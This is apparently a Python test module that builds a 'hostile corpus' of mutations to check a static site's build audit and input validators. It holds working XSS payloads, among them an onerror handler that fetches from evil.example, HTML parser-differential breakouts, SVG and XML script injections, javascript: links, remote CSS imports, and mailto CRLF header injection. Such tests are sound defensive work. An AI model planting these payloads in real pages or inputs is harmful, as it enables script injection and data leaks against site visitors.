"""The hostile corpus, round two (issue 21): what the third hidden corpus aimed at.

Each case is one small mutation of tests/fixtures/minimal, in the style of
tests/hostile/cases.py (whose Case, Refused, Safe and helpers it reuses), grouped
by the issue's classes:

- ``parser-differential``: markup where Python's ``html.parser`` and a browser
  disagree (comments that end early, raw-text elements, templates, SVG and MathML
  foreign content), in a hand-written page copied as it is and in data text;
- ``audit-files``: what the audit must read besides ``.html`` pages: SVG (scripts,
  handlers, loads, animated links), ``.htm``/``.xhtml`` pages, ``<style>`` and CSS
  files, XML, and the search index;
- ``client-scripts``: the values the site's scripts read from a page (question
  ids, the compare view's statuses, the site's address);
- ``encoding``: the report address that goes into ``mailto:``;
- ``ids``: ids with a final newline, too long for a file name, Windows device
  names, look-alike letters;
- ``bom``: a UTF-8 byte order mark, accepted where Windows editors write it;
- ``messages``: a NUL byte, a 200 KB key, U+2028, an ``&`` in the site's address:
  each told in the editor's words, at its place.

A case the site audit (layer 3) stops expects :class:`Audited`: the file in the
built site, its line and the element, as the build prints it. content/ holds
Markdown and a list of asset types, checked before the build (a page of raw HTML,
an ``.htm``, ``.xhtml`` or ``.xml`` file there is refused by name, an SVG or a
stylesheet is read as the audit reads it: tests/hostile/cases_content.py and the
SVG and CSS cases here). The parser differentials and the other pages and XML files
therefore come from the theme override, which MkDocs publishes past every check but
the audit (:func:`theme_file`): tests/hostile/test_hostile.py checks them in-process,
by adding them to a site built once and auditing it (:func:`audit_output`); two go
through the whole build as well.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass
from pathlib import Path

from macros.publish.build import with_sources
from macros.safety.site import run_site_audit
from tests.harness.site import FIXTURES
from tests.hostile.cases import Case, Mutation, Refused, Safe, both, copy, replace, write

# The classes of issue 21 this corpus covers (content/ HTML, asset types, front matter and
# the build's failure paths have corpora of their own).
CLASSES = (
    "parser-differential",
    "audit-files",
    "client-scripts",
    "encoding",
    "ids",
    "bom",
    "messages",
)


@dataclass(frozen=True)
class Audited(Refused):
    """Refused by the site audit: ``site/<file>:line:col: <element>: ...`` and the source."""


SITE = "data/site.yml"
ALPHA = "data/frameworks/alpha.yml"
BETA = "data/frameworks/beta.yml"
ARCH = "data/dimensions/architecture.yml"
FAQ = "data/faq.yml"

# Runs if it ever becomes code: a dialog, and a request that leaves 127.0.0.1.
JS = "alert(1);fetch('https://evil.example/x')"
IMG = f"<img src=x onerror={JS}>"
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

# The report address (site.yml's about.report.email), added to the fixture's site.yml.
ABOUT = (
    "about:\n"
    "  maintainers: |\n"
    "    The editors.\n"
    "  checking: |\n"
    "    Every fact cites a source.\n"
    "  report:\n"
    "    email: {email}\n"
    "    text: Write to us.\n"
)
# The line of the address: after the fixture's own lines and the block's first six.
EMAIL_LINE = (FIXTURES / "minimal" / SITE).read_text(encoding="utf-8").count("\n") + 7


def about(email: str) -> Mutation:
    """site.yml with an about block whose report address is ``email`` (YAML as written)."""

    def apply(project: Path) -> None:
        target = project / SITE
        text = target.read_text(encoding="utf-8")
        target.write_text(text + ABOUT.format(email=email), encoding="utf-8")

    return apply


def page(body: str) -> str:
    """A hand-written HTML page (copied as it is), the payload on line 4."""
    return f"<!doctype html>\n<title>Notes</title>\n<p>Notes</p>\n{body}\n"


def svg(body: str) -> str:
    """An SVG image, the payload on line 2."""
    return f"{SVG_OPEN}\n{body}\n</svg>\n"


def raw(path: str, data: bytes) -> Mutation:
    def apply(project: Path) -> None:
        target = project / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)

    return apply


def theme_file(name: str, text: str) -> Mutation:
    """A file of the theme override (``custom_dir: overrides``), which MkDocs publishes
    past every check of the site's but the audit: an ``.html`` file as a static template
    (rendered; these hold no Jinja, so as written), any other type copied as it is.

    Files under content/ that are not Markdown are refused by type or read before the
    build (macros.safety.files, tests/hostile/cases_content.py): the theme's folder is
    where a page of raw HTML still reaches the site, so the audit is the layer tried here.
    """

    def apply(project: Path) -> None:
        config = project / "mkdocs.yml"
        settings = config.read_text(encoding="utf-8")
        found = re.search(r"^  custom_dir: (.*)\n", settings, re.M)
        assert found, "make_project sets the site's overrides/"
        if found.group(1) != "overrides":  # the site's own overrides, copied into the project
            shutil.copytree(found.group(1), project / "overrides", dirs_exist_ok=True)
            settings = settings.replace(found.group(0), "  custom_dir: overrides\n")
        if name.endswith(".html"):
            settings = settings.replace(
                "  custom_dir: overrides\n",
                f"  custom_dir: overrides\n  static_templates: [{name}]\n",
            )
        config.write_text(settings, encoding="utf-8")
        (project / "overrides" / name).write_text(text, encoding="utf-8")

    return apply


def prepend(path: str, data: bytes) -> Mutation:
    def apply(project: Path) -> None:
        target = project / path
        target.write_bytes(data + target.read_bytes())

    return apply


def derive(source: str, dest: str, *edits: tuple[str, str]) -> Mutation:
    """A new file ``dest``: ``source`` with each (old, new) edit made once."""

    def apply(project: Path) -> None:
        text = (project / source).read_text(encoding="utf-8")
        for old, new in edits:
            assert old in text, f"{source}: {old!r} not found"
            text = text.replace(old, new, 1)
        (project / dest).write_text(text, encoding="utf-8")

    return apply


def _cases() -> list[Case]:
    c: list[Case] = []

    def add(name: str, kind: str, mutate: Mutation, expect: Refused | Safe) -> None:
        assert kind in CLASSES, kind
        c.append(Case(f"r2-{name}", kind, mutate, expect))

    # --- parser differentials: a hand-written page, copied into the site as it is ----------
    handler = "event handler onerror="
    script = "inline script not on the allowlist"
    loads = "loads from another host"
    in_svg = "a script in an SVG or XML file"
    for name, body, element, says in [
        ("comment-ends-at-gt", "<!--><script>alert(1)</script>-->", "<script>", script),
        ("comment-ends-at-dash-gt", "<!---><script>alert(1)</script>-->", "<script>", script),
        ("comment-ends-at-bang", f"<!-- x --!>{IMG}-->", "<img>", handler),
        ("noscript-title", f'<noscript><p title="</noscript>{IMG}">', "<img>", handler),
        ("textarea-title", f'<textarea><p title="</textarea>{IMG}">', "<img>", handler),
        ("xmp-title", f'<xmp><p title="</xmp>{IMG}">', "<img>", handler),
        ("noembed-title", f'<noembed><p title="</noembed>{IMG}">', "<img>", handler),
        ("noframes-title", f'<noframes><p title="</noframes>{IMG}">', "<img>", handler),
        ("title-title", f'<title><p title="</title>{IMG}">', "<img>", handler),
        ("style-title", f'<style><p title="</style>{IMG}">', "<img>", handler),
        ("template-content", f"<template>{IMG}</template>", "<img>", handler),
        ("svg-style-breaks-out", f'<svg></p><style><a id="</style>{IMG}">', "<img>", handler),
        ("math-style-breaks-out", f"<math><style>{IMG}</style></math>", "<img>", handler),
        (
            "svg-foreign-object",
            f"<svg><foreignObject>{IMG}</foreignObject></svg>",
            "<img>",
            handler,
        ),
    ]:
        add(
            name,
            "parser-differential",
            theme_file("notes.html", page(body)),
            Audited("site/notes.html", 4, element, says),
        )
    # ... and in data text, as code (shown, never parsed) and as raw HTML (refused).
    add(
        "code-span-noscript-in-text",
        "parser-differential",
        replace(
            ARCH,
            "      Beta gives you everything.",
            f'      Beta gives you `<noscript><p title="</noscript>{IMG}">` as text.',
        ),
        Safe(absent=(IMG,), present=("&lt;noscript&gt;&lt;p title=",)),
    )
    add(
        "comment-script-in-verdict",
        "parser-differential",
        replace(
            ARCH, "verdict: A micro-framework.", "verdict: A micro<!--><script>alert(1)</script>-->"
        ),
        Refused(ARCH, 8, "frameworks.alpha.verdict", "raw HTML"),
    )

    # --- files the audit must read ----------------------------------------------------------
    for name, body, line, element, says in [
        ("svg-script", "<script>alert(1)</script>", 2, "<script>", in_svg),
        ("svg-onload", '<rect onload="alert(1)" width="1" height="1"/>', 2, "<rect>", "onload"),
        (
            "svg-use-foreign",
            '<use href="https://evil.example/s.svg#a"/>',
            2,
            "<use>",
            "evil.example",
        ),
        (
            "svg-animate-href",
            '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
            2,
            "<animate>",
            "an animation of href=",
        ),
        ("svg-image-foreign", '<image href="https://evil.example/p.png"/>', 2, "<image>", "evil"),
        (
            "svg-xlink-javascript",
            '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
            2,
            "<a>",
            "javascript",
        ),
        (
            "svg-style-import",
            "<style>@import url(https://evil.example/x.css);</style>",
            2,
            "url()",
            f"{loads} (https://evil.example/x.css)",
        ),
    ]:
        add(
            name,
            "audit-files",
            write("content/assets/images/diagram.svg", svg(body)),
            Refused("content/assets/images/diagram.svg", line, element, says),
        )
    add(
        "htm-page-handler",
        "audit-files",
        theme_file("old.htm", page(IMG)),
        Audited("site/old.htm", 4, "<img>", "the page comes from overrides/old.htm"),
    )
    add(
        "xhtml-page-script",
        "audit-files",
        theme_file(
            "old.xhtml",
            '<html xmlns="http://www.w3.org/1999/xhtml">\n<body>\n<p>x</p>\n'
            "<script>alert(1)</script>\n</body>\n</html>\n",
        ),
        Audited("site/old.xhtml", 4, "<script>", in_svg),
    )
    add(
        "page-style-import",
        "audit-files",
        theme_file("notes.html", page("<style>@import url(https://evil.example/x.css);</style>")),
        Audited("site/notes.html", 4, "url()", f"{loads} (https://evil.example/x.css)"),
    )
    add(
        "page-style-url-rule",
        "audit-files",
        theme_file(
            "notes.html", page("<style>body { background: url(//evil.example/p.png) }</style>")
        ),
        Audited("site/notes.html", 4, "url()", f"{loads} (//evil.example/p.png)"),
    )
    add(
        "css-file-import",
        "audit-files",
        write(
            "content/assets/stylesheets/extra.css",
            "/* extra */\n@import 'https://evil.example/x.css';\n",
        ),
        Refused(
            "content/assets/stylesheets/extra.css",
            2,
            "@import",
            f"{loads} (https://evil.example/x.css)",
        ),
    )
    add(
        "css-file-escaped-url",
        "audit-files",
        write(
            "content/assets/stylesheets/extra.css",
            "body {\n  background: u\\72l(https://evil.example/p.png);\n}\n",
        ),
        Refused(
            "content/assets/stylesheets/extra.css",
            2,
            "url()",
            f"{loads} (https://evil.example/p.png)",
        ),
    )
    add(
        "xml-file-xhtml-script",
        "audit-files",
        theme_file(
            "feed.xml",
            '<?xml version="1.0"?>\n<feed xmlns:h="http://www.w3.org/1999/xhtml">\n'
            "<h:script>alert(1)</h:script>\n</feed>\n",
        ),
        Audited("site/feed.xml", 3, "<script>", in_svg),
    )
    add(
        "svg-harmless",
        "audit-files",
        write(
            "content/assets/images/diagram.svg",
            svg('<rect width="1" height="1" fill="url(#g)"/><a href="/faq/"><text>x</text></a>'),
        ),
        Safe(),
    )
    add(
        "search-title-escaped-markup",
        "audit-files",
        write(
            "content/notes.md",
            "# Notes on &lt;img src=x onerror=alert(1)&gt;\n\nText about the onerror attribute.\n",
        ),
        Safe(
            absent=("<img src=x onerror",), present=("Notes on &lt;img src=x onerror=alert(1)&gt;",)
        ),
    )

    # --- values the client scripts read from the page ----------------------------------------
    for name, value, says in [
        ("faq-id-breaks-out", "'x\"><img src=x onerror=alert(1)>'", "is not valid here"),
        ("faq-id-protocol-relative", "//evil.example/x", "is not valid here"),
        ("faq-id-fragment-percent", "'which%E0%A4%A'", "is not valid here"),
    ]:
        add(
            name,
            "client-scripts",
            replace(FAQ, "id: which-first", f"id: {value}"),
            Refused(FAQ, 2, "questions[0].id", says),
        )
    add(
        "status-javascript",
        "client-scripts",
        replace(ARCH, "      alpha: third-party", "      alpha: 'javascript:alert(1)'"),
        Refused(ARCH, 23, "table[0].status.alpha", "unknown value 'javascript:alert(1)'"),
    )
    add(
        "site-url-double-slash-path",
        "client-scripts",
        replace(SITE, "url: https://example.org/", "url: https://example.org//evil.example/"),
        Refused(SITE, 3, "url", "holds '//' (two slashes in a row)"),
    )

    # --- the report address in mailto: --------------------------------------------------------
    for name, email, says in [
        ("email-trailing-newline", '"corrections@example.org\\n"', "must be one line"),
        ("email-crlf-header", '"corrections@example.org\\r\\nbcc: all@evil.example"', "one line"),
        ("email-query", '"corrections@example.org?bcc=all@evil.example"', "not valid here"),
        ("email-quoted-markup", "'\"><img src=x onerror=alert(1)>@example.org'", "not valid"),
    ]:
        add(name, "encoding", about(email), Refused(SITE, EMAIL_LINE, "about.report.email", says))
    add(
        "email-percent-crlf",
        "encoding",
        about("corrections%0D%0Abcc%3Aall@example.org"),
        Safe(
            absent=("mailto:corrections%0D%0Abcc", "mailto:corrections%0d%0abcc"),
            present=("mailto:corrections%250D%250Abcc%253Aall@example.org?",),
        ),
    )

    # --- ids ---------------------------------------------------------------------------------
    add(
        "faq-id-final-newline",
        "ids",
        replace(FAQ, "id: which-first", 'id: "which-first\\n"'),
        Refused(FAQ, 2, "questions[0].id", "must be one line"),
    )
    add(
        "row-id-final-newline",
        "ids",
        replace(ARCH, "  - id: architecture", '  - id: "architecture\\n"'),
        Refused(ARCH, 16, "table[0].id", "must be one line"),
    )
    long_id = "a" * 250
    add(
        "framework-id-250-characters",
        "ids",
        copy(ALPHA, f"data/frameworks/{long_id}.yml", "name: Alpha", "name: Long"),
        Refused(f"data/frameworks/{long_id}.yml", 0, "", "is 250 characters long; the limit is"),
    )
    for device in ("con", "nul", "aux"):
        add(
            f"dimension-id-{device}",
            "ids",
            copy(ARCH, f"data/dimensions/{device}.yml", "order: 10", "order: 30"),
            Refused(f"data/dimensions/{device}.yml", 0, "", "device name on Windows"),
        )
    add(
        "framework-id-cyrillic-a",
        "ids",
        copy(ALPHA, "data/frameworks/dj\u0430ngo.yml", "name: Alpha", "name: Django"),
        Refused("data/frameworks/dj\u0430ngo.yml", 0, "", "U+0430"),
    )
    add(
        "faq-id-cyrillic-a",
        "ids",
        replace(FAQ, "id: which-first", "id: which-f\u0430rst"),
        Refused(FAQ, 2, "questions[0].id", "it has U+0430 CYRILLIC SMALL LETTER A"),
    )

    # --- byte order marks --------------------------------------------------------------------
    bom = "\ufeff".encode()
    add("bom-site-yml", "bom", prepend(SITE, bom), Safe())
    add("bom-framework-and-faq", "bom", both(prepend(ALPHA, bom), prepend(FAQ, bom)), Safe())
    add(
        "bom-inside-a-value",
        "bom",
        replace(ALPHA, "name: Alpha", "name: Al\ufeffpha"),
        Refused(ALPHA, 1, "name", "(byte order mark) (U+FEFF) at column 9"),
    )

    # --- messages in the editor's words ------------------------------------------------------
    add(
        "nul-byte",
        "messages",
        replace(ALPHA, "tagline: The Alpha framework.", "tagline: The Alpha\0 framework."),
        Refused(ALPHA, 2, "", "a null character (U+0000) at column 19"),
    )
    add(
        "nul-byte-in-block",
        "messages",
        replace(ARCH, "      Beta gives you everything.", "      Beta gives\0 you everything."),
        Refused(ARCH, 14, "", "a null character (U+0000) at column 17"),
    )
    add(
        "key-200-kb",
        "messages",
        replace(ALPHA, "name: Alpha", f"{'k' * 200_000}: x\nname: Alpha"),
        Refused(ALPHA, 1, "", "YAML reads a key of at most 1024 characters"),
    )
    add(
        "line-separator-in-answer",
        "messages",
        replace(
            FAQ,
            "      Alpha: it has less to learn before the first page works.",
            "      Alpha: it has less to learn\u2028before the first page works.",
        ),
        Refused(FAQ, 5, "", "a line separator (U+2028) at column 34"),
    )
    add(
        "line-separator-in-tagline",
        "messages",
        replace(ALPHA, "tagline: The Alpha framework.", "tagline: The Alpha\u2028framework."),
        Refused(ALPHA, 2, "", "a line separator (U+2028) at column 19"),
    )
    add(
        "ampersand-in-site-url",
        "messages",
        replace(SITE, "url: https://example.org/", "url: https://example.org/a&b/"),
        Refused(SITE, 3, "url", "'https://example.org/a&b/' holds '&' (U+0026 AMPERSAND)"),
    )
    # A new dimension whose id is another's anchor: filed under the new file, not the old.
    add(
        "collision-filed-under-the-new-file",
        "messages",
        derive(
            ARCH,
            "data/dimensions/architecture-beta.yml",
            ("title: Architecture", "title: Layout"),
            ("order: 10", "order: 30"),
            ("  - id: architecture\n    label: Architecture", "  - id: layout\n    label: Layout"),
            ("alpha: Micro-framework", "alpha: Small"),
        ),
        Refused(
            "data/dimensions/architecture-beta.yml",
            0,
            "",
            "the dimension id 'architecture-beta' makes #architecture-beta on one-page, "
            f"which {ARCH} makes too",
        ),
    )
    return c


CASES = _cases()


def audit_output(project: Path, base_site: Path, dest: Path) -> tuple[int, str]:
    """The site audit's verdict on ``project``, in-process: ``base_site`` (the fixture built
    once) plus the files of the theme override (overrides/), published as MkDocs publishes
    them: a static template rendered (these hold no Jinja: as written), any other file but
    a template copied as it is (test_refused_build_keeps_the_last_good_site builds two of
    these cases for real).

    The exit code and output are the build's: 1 and each finding with its source.
    """
    site = dest / "site"
    shutil.copytree(base_site, site)
    theme = project / "overrides"
    config = (project / "mkdocs.yml").read_text(encoding="utf-8")
    for path in sorted(theme.rglob("*")) if theme.is_dir() else []:
        name = path.relative_to(theme).as_posix()
        if not path.is_file() or (name.endswith(".html") and f"[{name}]" not in config):
            continue  # a template MkDocs renders only when a page extends it
        text = path.read_text(encoding="utf-8")
        assert not any(mark in text for mark in ("{{", "{%", "{#")), name
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(text.removesuffix("\n") if name.endswith(".html") else text)
    findings = with_sources(run_site_audit(site).findings, site, project)
    return (1 if findings else 0), "\n".join(str(finding) for finding in findings)
